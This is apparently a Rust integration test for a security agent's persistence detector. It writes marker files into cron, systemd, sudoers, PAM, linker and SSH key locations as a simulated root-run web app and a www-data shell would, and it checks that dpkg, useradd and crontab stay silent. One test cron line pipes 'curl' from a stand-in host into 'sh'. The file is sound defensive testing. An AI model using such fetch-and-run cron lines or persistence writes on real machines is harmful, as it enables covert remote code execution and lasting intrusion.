//! Persistence is seen by who wrote it (issue 25 §1), end to end: real files in the real
//! persistence locations, written by real processes while a real agent watches.
//!
//! Attack writers: a root shell below a small web server the test starts (a listening
//! `python3` that runs `sh -c` for each request, as a root-run vulnerable app does), one row
//! per location group; the server writing a cron file itself and then connecting out (the
//! decision is on its destination); and a shell running as `www-data` adding a key to its own
//! `authorized_keys`. Each is a `critical` `persistence` alert with the location's technique.
//! A plain root shell (no server) is `high`.
//!
//! Benign writers raise nothing: `dpkg` installing (and purging) a local `.deb` built here that
//! ships a cron file, a unit, a timer, a profile script, a sudoers file, a PAM file, a
//! linker configuration and a module list; `useradd`/`userdel` run by root; `crontab` run by
//! root when it is installed; a login user writing their own `authorized_keys` and `.bashrc`.
//!
//! Everything written is restored, even when a test fails (drop guards): files created under
//! unique `sentinel-test-<pid>` names are removed, directories created for the test removed,
//! and the account and linker files are only opened for append with nothing written (`: >>`),
//! which is a write to the watcher and a no-op to the file; `/etc/ld.so.preload` and
//! `/etc/rc.local`, when absent, are created empty and removed.

mod common;

use std::{
    io::{BufRead, BufReader, Write as _},
    os::unix::process::CommandExt,
    path::{Path, PathBuf},
    process::{Child, ChildStdin, ChildStdout, Command, Stdio},
    thread,
    time::{Duration, Instant},
};

use common::{
    Agent,
    netns::{DE4, TestNet},
    nft::Table,
    require_root, serial,
};
use serde_json::Value;

const WAIT: Duration = Duration::from_secs(30);

fn tag() -> String {
    format!("sentinel-test-{}", std::process::id())
}

/// What the test changed on the machine, undone on drop (also on panic), newest first.
#[derive(Default)]
struct Undo(Vec<Step>);

enum Step {
    /// A file the test created: removed.
    Remove(PathBuf),
    /// A directory the test created: removed with what is left in it.
    RemoveDir(PathBuf),
    /// A file that existed: its bytes put back.
    Restore(PathBuf, Vec<u8>),
    /// A package installed: purged.
    Purge(String),
    /// A user added: deleted.
    User(String),
}

impl Undo {
    /// `dir` exists for the test (created, and removed after, when it did not).
    fn dir(&mut self, dir: &Path) {
        let mut missing = Vec::new();
        let mut d = dir;
        while !d.exists() {
            missing.push(d.to_path_buf());
            d = d.parent().unwrap();
        }
        for m in missing.into_iter().rev() {
            std::fs::create_dir(&m).unwrap();
            self.0.push(Step::RemoveDir(m));
        }
    }

    /// `path` will be written by the test: removed after when new, restored when it existed.
    fn file(&mut self, path: &Path) {
        match std::fs::read(path) {
            Ok(bytes) => self.0.push(Step::Restore(path.into(), bytes)),
            Err(_) => self.0.push(Step::Remove(path.into())),
        }
    }
}

impl Drop for Undo {
    fn drop(&mut self) {
        while let Some(step) = self.0.pop() {
            match step {
                Step::Remove(p) => {
                    let _ = std::fs::remove_file(p);
                }
                Step::RemoveDir(p) => {
                    let _ = std::fs::remove_dir_all(p);
                }
                Step::Restore(p, bytes) => {
                    if std::fs::read(&p).ok().as_deref() != Some(&bytes[..]) {
                        let _ = std::fs::write(&p, bytes);
                    }
                }
                Step::Purge(name) => {
                    let _ = Command::new("dpkg").args(["--purge", &name]).output();
                }
                Step::User(name) => {
                    let _ = Command::new("userdel").args(["-f", "-r", &name]).output();
                }
            }
        }
    }
}

/// A root-run "web app": a `python3` that listens on loopback and, for each line on its
/// stdin, runs `sh -c` on it (`sh …`), appends to a file itself (`open …`) or connects out
/// (`connect host port`), answering with the pid that did it. Killed on drop.
struct WebApp {
    child: Child,
    stdin: ChildStdin,
    stdout: BufReader<ChildStdout>,
}

const APP: &str = "import socket, subprocess, sys\n\
    s = socket.socket(); s.bind(('127.0.0.1', 0)); s.listen()\n\
    print('ready', flush=True)\n\
    import os\n\
    for line in sys.stdin:\n\
    \x20   verb, _, arg = line.strip().partition(' ')\n\
    \x20   if verb == 'sh':\n\
    \x20       p = subprocess.Popen(['/bin/sh', '-c', arg]); p.wait(); print(p.pid, flush=True)\n\
    \x20   elif verb == 'open':\n\
    \x20       open(arg, 'a').close(); print(os.getpid(), flush=True)\n\
    \x20   elif verb == 'connect':\n\
    \x20       host, port = arg.split()\n\
    \x20       try: socket.create_connection((host, int(port)), timeout=1).close()\n\
    \x20       except OSError: pass\n\
    \x20       print(os.getpid(), flush=True)\n";

impl WebApp {
    fn start() -> WebApp {
        let mut child = Command::new("/usr/bin/python3")
            .args(["-c", APP])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .process_group(0)
            .spawn()
            .unwrap();
        let stdin = child.stdin.take().unwrap();
        let mut stdout = BufReader::new(child.stdout.take().unwrap());
        let mut line = String::new();
        stdout.read_line(&mut line).unwrap();
        assert_eq!(line.trim(), "ready");
        WebApp {
            child,
            stdin,
            stdout,
        }
    }

    /// Ask for `verb arg`; the pid that did it.
    fn ask(&mut self, verb: &str, arg: &str) -> u32 {
        writeln!(self.stdin, "{verb} {arg}").unwrap();
        let mut line = String::new();
        self.stdout.read_line(&mut line).unwrap();
        line.trim()
            .parse()
            .unwrap_or_else(|_| panic!("{verb} {arg}: {line:?}"))
    }

    fn pid(&self) -> u32 {
        self.child.id()
    }
}

impl Drop for WebApp {
    fn drop(&mut self) {
        let _ = nix::sys::signal::killpg(
            nix::unistd::Pid::from_raw(self.child.id() as i32),
            nix::sys::signal::Signal::SIGKILL,
        );
        let _ = self.child.wait();
    }
}

fn agent(table: &Table) -> Agent {
    Agent::start_with(
        "",
        &format!(
            "[trust]\nips = [\"198.51.100.0/25\", \"198.51.100.192/26\", \"2001:db8::/32\"]\n\
             [switch]\ncountdown = \"60s\"\n\
             [enforce]\nmode = \"dry-run\"\ntable = \"{}\"\nconnect_guard = false\n",
            table.0
        ),
    )
}

fn sh(script: &str) -> u32 {
    let mut child = Command::new("/bin/sh")
        .args(["-c", script])
        .spawn()
        .unwrap();
    let pid = child.id();
    assert!(child.wait().unwrap().success(), "{script}");
    pid
}

fn persistence_alerts(agent: &Agent) -> Vec<Value> {
    agent
        .events("alert")
        .into_iter()
        .filter(|a| a["anomaly"] == "persistence")
        .collect()
}

/// The `persistence` alert about `path`, waiting for it.
fn alert_on(agent: &Agent, path: &str) -> Option<Value> {
    let deadline = Instant::now() + WAIT;
    while Instant::now() < deadline {
        if let Some(a) = persistence_alerts(agent).into_iter().find(|a| {
            a["detail"]
                .as_str()
                .is_some_and(|d| d.contains(&format!(" {path} ")))
        }) {
            return Some(a);
        }
        thread::sleep(Duration::from_millis(200));
    }
    None
}

/// One row: a location, the file written there, and how.
struct Row {
    location: &'static str,
    technique: &'static str,
    path: PathBuf,
    /// The shell command that writes it.
    command: String,
}

/// The rows of the attack table, with what must exist first (in `undo`).
fn attack_rows(undo: &mut Undo) -> Vec<Row> {
    let t = tag();
    let comment = |path: &Path| format!("echo '# {t}' > {}", path.display());
    let append_nothing = |path: &Path| format!(": >> {}", path.display());
    let mut rows = Vec::new();
    let mut new_file = |location, technique, path: PathBuf, undo: &mut Undo| {
        undo.dir(path.parent().unwrap());
        undo.file(&path);
        rows.push(Row {
            location,
            technique,
            command: comment(&path),
            path,
        });
    };
    new_file("cron", "T1053.003", format!("/etc/cron.d/{t}").into(), undo);
    new_file(
        "at",
        "T1053.002",
        format!("/var/spool/cron/atjobs/{t}").into(),
        undo,
    );
    new_file(
        "systemd unit",
        "T1543.002",
        format!("/etc/systemd/system/{t}.service").into(),
        undo,
    );
    new_file(
        "systemd timer",
        "T1053.006",
        format!("/etc/systemd/system/{t}.timer").into(),
        undo,
    );
    new_file(
        "authorized_keys",
        "T1098.004",
        "/root/.ssh/authorized_keys".into(),
        undo,
    );
    new_file(
        "dynamic linker",
        "T1574.006",
        format!("/etc/ld.so.conf.d/{t}.conf").into(),
        undo,
    );
    new_file(
        "shell start-up file",
        "T1546.004",
        format!("/etc/profile.d/{t}.sh").into(),
        undo,
    );
    new_file(
        "sudoers",
        "T1548.003",
        format!("/etc/sudoers.d/{t}").into(),
        undo,
    );
    new_file("PAM", "T1556.003", format!("/etc/pam.d/{t}").into(), undo);
    new_file(
        "kernel modules",
        "T1547.006",
        format!("/etc/modules-load.d/{t}.conf").into(),
        undo,
    );
    // Opened for append, nothing written: the file stays as it was (created empty and
    // removed after when it was absent; never a library path in ld.so.preload).
    for (location, technique, path) in [
        ("account database", "T1136.001", "/etc/passwd"),
        ("account database", "T1136.001", "/etc/shadow"),
        ("dynamic linker", "T1574.006", "/etc/ld.so.preload"),
        ("rc.local", "T1037.004", "/etc/rc.local"),
        ("shell start-up file", "T1546.004", "/etc/bash.bashrc"),
    ] {
        let path = PathBuf::from(path);
        undo.file(&path);
        rows.push(Row {
            location,
            technique,
            command: append_nothing(&path),
            path,
        });
    }
    rows
}

#[test]
fn writes_below_a_web_server_or_by_a_service_user_are_critical_and_a_root_shell_high() {
    if !require_root(
        "writes_below_a_web_server_or_by_a_service_user_are_critical_and_a_root_shell_high",
    ) {
        return;
    }
    let _serial = serial();
    let net = TestNet::new("persist");
    let table = Table::new("persist");
    let mut undo = Undo::default();
    let rows = attack_rows(&mut undo);
    // www-data's own ~/.ssh (its home from /etc/passwd), writable by it.
    let www_home = nix::unistd::User::from_name("www-data")
        .unwrap()
        .expect("www-data")
        .dir;
    let www_ssh = www_home.join(".ssh");
    undo.dir(&www_ssh);
    std::os::unix::fs::chown(&www_ssh, Some(33), Some(33)).unwrap();
    let www_keys = www_ssh.join("authorized_keys");
    undo.file(&www_keys);
    let t = tag();
    let by_server_itself = PathBuf::from(format!("/etc/cron.d/{t}-app"));
    undo.file(&by_server_itself);
    let by_root_shell = PathBuf::from(format!("/etc/cron.d/{t}-root"));
    undo.file(&by_root_shell);
    let evil = PathBuf::from(format!("/etc/cron.d/{t}-evil"));
    undo.file(&evil);

    let agent = agent(&table);
    let mut app = WebApp::start();
    let server = app.pid();
    let mut results = Vec::new();
    let mut writers = Vec::new();
    for row in &rows {
        writers.push(app.ask("sh", &row.command));
    }
    // A line the cron detector finds suspicious (never run: nothing here runs cron).
    let evil_pid = sh(&format!(
        "echo '* * * * * root curl -s http://198.51.100.2/x | sh' > {}",
        evil.display()
    ));
    // The app itself writes a cron file, then connects to its C2.
    let app_pid = app.ask("open", &by_server_itself.display().to_string());
    assert_eq!(app_pid, server);
    // A service user's shell (not below any server).
    let www_pid = sh(&format!(
        "exec setpriv --reuid=33 --regid=33 --clear-groups /bin/sh -c \"echo 'ssh-ed25519 AAAA {t}' >> {}\"",
        www_keys.display()
    ));
    // A root shell with no server above it.
    let root_pid = sh(&format!("echo '# {t}' > {}", by_root_shell.display()));

    for (row, writer) in rows.iter().zip(&writers) {
        let path = row.path.display().to_string();
        let alert = alert_on(&agent, &path)
            .unwrap_or_else(|| panic!("no persistence alert on {path}:\n{}", agent.log()));
        assert_eq!(alert["severity"], "critical", "{alert}");
        assert_eq!(alert["mitre"]["technique"], row.technique, "{alert}");
        assert_eq!(alert["pid"], *writer, "{alert}");
        let detail = alert["detail"].as_str().unwrap();
        assert!(detail.starts_with(row.location), "{detail}");
        assert!(
            detail.contains(&format!("below the web server python3 ({server})")),
            "{detail}"
        );
        results.push((row.location, path, "critical"));
    }
    // The content is a risk term: a root shell's write with a suspicious line scores higher
    // than its plain twin.
    let plain = alert_on(&agent, &by_root_shell.display().to_string()).unwrap();
    let alert = alert_on(&agent, &evil.display().to_string()).expect("the suspicious line");
    assert_eq!(alert["pid"], evil_pid, "{alert}");
    assert!(
        alert["detail"]
            .as_str()
            .unwrap()
            .ends_with("with a suspicious line (see its cron alert)"),
        "{alert}"
    );
    assert!(
        alert["risk"].as_u64() > plain["risk"].as_u64(),
        "{alert} vs {plain}"
    );
    assert_eq!(alert["severity"], "high", "{alert}");
    results.push((
        "cron, root shell, bad line",
        evil.display().to_string(),
        "high, risk up",
    ));
    let alert = alert_on(&agent, &by_server_itself.display().to_string()).expect("the app's own");
    assert_eq!(alert["severity"], "critical", "{alert}");
    assert_eq!(alert["pid"], server, "{alert}");
    results.push((
        "cron (the app itself)",
        by_server_itself.display().to_string(),
        "critical",
    ));
    // Its destinations are in a decision.
    app.ask("connect", &format!("{DE4} 9"));
    let id = alert["id"].as_str().unwrap().to_string();
    let deadline = Instant::now() + WAIT;
    let decision = loop {
        if let Some(d) = agent
            .events("decision")
            .into_iter()
            .find(|d| d["id"] == id.as_str() && d["target_ip"] == DE4)
        {
            break Some(d);
        }
        if Instant::now() > deadline {
            break None;
        }
        thread::sleep(Duration::from_millis(200));
    };
    assert!(
        decision.is_some(),
        "no decision on {DE4} for {alert}: {:?}\n{}",
        agent.events("decision"),
        agent.log()
    );

    let alert = alert_on(&agent, &www_keys.display().to_string()).expect("www-data's key");
    assert_eq!(alert["severity"], "critical", "{alert}");
    assert_eq!(alert["pid"], www_pid, "{alert}");
    assert_eq!(alert["mitre"]["technique"], "T1098.004", "{alert}");
    assert!(
        alert["detail"]
            .as_str()
            .unwrap()
            .contains("by the service user www-data (uid 33)"),
        "{alert}"
    );
    results.push((
        "authorized_keys (www-data)",
        www_keys.display().to_string(),
        "critical",
    ));

    let alert = alert_on(&agent, &by_root_shell.display().to_string()).expect("root shell");
    assert_eq!(alert["severity"], "high", "{alert}");
    assert_eq!(alert["pid"], root_pid, "{alert}");
    results.push((
        "cron (plain root shell)",
        by_root_shell.display().to_string(),
        "high",
    ));
    for (location, path, severity) in results {
        eprintln!("attack  {location:<28} {path:<50} {severity}");
    }
    drop(app);
    drop(net);
}

/// A `.deb` named `name` shipping `files` (path, content), built with `dpkg-deb` in `dir`.
fn build_deb(dir: &Path, name: &str, files: &[(String, &str)]) -> PathBuf {
    let root = dir.join("pkg");
    for (path, content) in files {
        let at = root.join(path.trim_start_matches('/'));
        std::fs::create_dir_all(at.parent().unwrap()).unwrap();
        std::fs::write(at, content).unwrap();
    }
    let debian = root.join("DEBIAN");
    std::fs::create_dir_all(&debian).unwrap();
    std::fs::write(
        debian.join("control"),
        format!(
            "Package: {name}\nVersion: 1.0\nArchitecture: all\nMaintainer: test <t@example.org>\n\
             Description: sentinel persistence test\n"
        ),
    )
    .unwrap();
    let deb = dir.join(format!("{name}.deb"));
    let out = Command::new("dpkg-deb")
        .args(["--root-owner-group", "--build"])
        .arg(&root)
        .arg(&deb)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    deb
}

#[test]
fn package_managers_admin_tools_and_users_in_their_homes_raise_nothing() {
    if !require_root("package_managers_admin_tools_and_users_in_their_homes_raise_nothing") {
        return;
    }
    let _serial = serial();
    let table = Table::new("persistb");
    let mut undo = Undo::default();
    let t = tag();
    let files: Vec<(String, &str)> = vec![
        (format!("/etc/cron.d/{t}"), "# nothing\n"),
        (format!("/usr/lib/systemd/system/{t}.service"), "[Unit]\n"),
        (format!("/usr/lib/systemd/system/{t}.timer"), "[Timer]\n"),
        (format!("/etc/profile.d/{t}.sh"), "# nothing\n"),
        (format!("/etc/sudoers.d/{t}"), "# nothing\n"),
        (format!("/etc/pam.d/{t}"), "# nothing\n"),
        (format!("/etc/ld.so.conf.d/{t}.conf"), "# nothing\n"),
        (format!("/etc/modules-load.d/{t}.conf"), "# nothing\n"),
    ];
    for (path, _) in &files {
        undo.dir(Path::new(path).parent().unwrap());
    }
    // A login user with a home of their own (made before the agent reads /etc/passwd).
    let user = format!("sntp-{}", std::process::id());
    let home = PathBuf::from(format!("/home/{user}"));
    let _ = Command::new("userdel").args(["-f", "-r", &user]).output();
    let out = Command::new("useradd")
        .args(["-m", "-N", "-p", "*", "-s", "/bin/sh", "-d"])
        .arg(&home)
        .arg(&user)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    undo.0.push(Step::User(user.clone()));
    let uid = nix::unistd::User::from_name(&user)
        .unwrap()
        .unwrap()
        .uid
        .as_raw();
    undo.dir(&home.join(".ssh"));
    std::os::unix::fs::chown(home.join(".ssh"), Some(uid), None).unwrap();
    let work = tempfile::tempdir().unwrap();
    let deb = build_deb(work.path(), &t, &files);

    let agent = agent(&table);
    let mut rows = Vec::new();
    // dpkg installs, then purges.
    let out = Command::new("dpkg").arg("-i").arg(&deb).output().unwrap();
    undo.0.push(Step::Purge(t.clone()));
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    for (path, _) in &files {
        rows.push(("dpkg -i", path.clone()));
    }
    // useradd and userdel (admin tools) write the account files.
    let second = format!("sntq-{}", std::process::id());
    undo.0.push(Step::User(second.clone()));
    sh(&format!(
        "useradd -M -N -s /usr/sbin/nologin {second} && userdel {second}"
    ));
    rows.push(("useradd/userdel", "/etc/passwd".into()));
    rows.push(("useradd/userdel", "/etc/shadow".into()));
    // crontab(1) by root, when installed.
    if Path::new("/usr/bin/crontab").exists() {
        undo.dir(Path::new("/var/spool/cron/crontabs"));
        undo.file(Path::new("/var/spool/cron/crontabs/root"));
        sh("(crontab -l 2>/dev/null; echo '# sentinel-test') | crontab -");
        rows.push(("crontab -", "/var/spool/cron/crontabs/root".into()));
    } else {
        eprintln!("NOTE: crontab(1) is not installed: its benign row is not run");
    }
    // The login user writes their own key and start-up file.
    let keys = home.join(".ssh/authorized_keys");
    let bashrc = home.join(".bashrc");
    sh(&format!(
        "exec setpriv --reuid={uid} --regid=100 --clear-groups /bin/sh -c \"echo 'ssh-ed25519 AAAA me' >> {} && echo '# mine' >> {}\"",
        keys.display(),
        bashrc.display()
    ));
    rows.push(("login user, own home", keys.display().to_string()));
    rows.push(("login user, own home", bashrc.display().to_string()));
    let out = Command::new("dpkg").args(["--purge", &t]).output().unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );

    // A marker written last by a plain root shell (high): once it is in, everything before it
    // was judged.
    let marker = PathBuf::from(format!("/etc/cron.d/{t}-marker"));
    undo.file(&marker);
    sh(&format!("echo '# marker' > {}", marker.display()));
    alert_on(&agent, &marker.display().to_string()).expect("the marker's alert");
    let alerts = persistence_alerts(&agent);
    let log = agent.log();
    for (who, path) in &rows {
        let hits: Vec<&Value> = alerts
            .iter()
            .filter(|a| {
                a["detail"]
                    .as_str()
                    .is_some_and(|d| d.contains(&format!(" {path} ")))
            })
            .collect();
        assert!(hits.is_empty(), "{who} {path} raised {hits:?}");
        eprintln!("benign  {who:<22} {path:<55} nothing");
    }
    // The watcher saw them (the agent logs what it let through and why).
    assert!(
        log.contains("written by a package manager"),
        "dpkg's writes were not seen:\n{log}"
    );
    assert!(log.contains("written by an admin tool"), "{log}");
    assert!(
        log.contains("written by a login user in their own home"),
        "{log}"
    );
}
